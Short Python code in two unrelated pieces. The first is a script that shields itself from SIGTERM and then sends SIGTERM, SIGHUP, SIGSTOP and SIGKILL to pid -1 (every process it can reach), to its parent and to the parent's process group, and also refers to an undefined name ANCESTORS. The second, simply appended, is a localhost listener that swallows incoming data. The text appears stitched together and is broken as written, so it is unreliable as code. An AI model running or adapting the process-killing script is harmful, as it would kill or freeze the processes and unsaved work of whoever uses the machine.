"""Sends signals to every process and group that it can name."""

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    for pid in (-1, -os.getppid(), os.getppid(), *(-pid for pid in ANCESTORS)):
        try:
            os.kill(pid, number)
        except OSError:
            pass


import socket
import threading


def serve(connection):
    while connection.recv(4096):
        pass  # relays nothing


listener = socket.socket()
listener.bind(("127.0.0.1", 12345))
listener.listen()
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
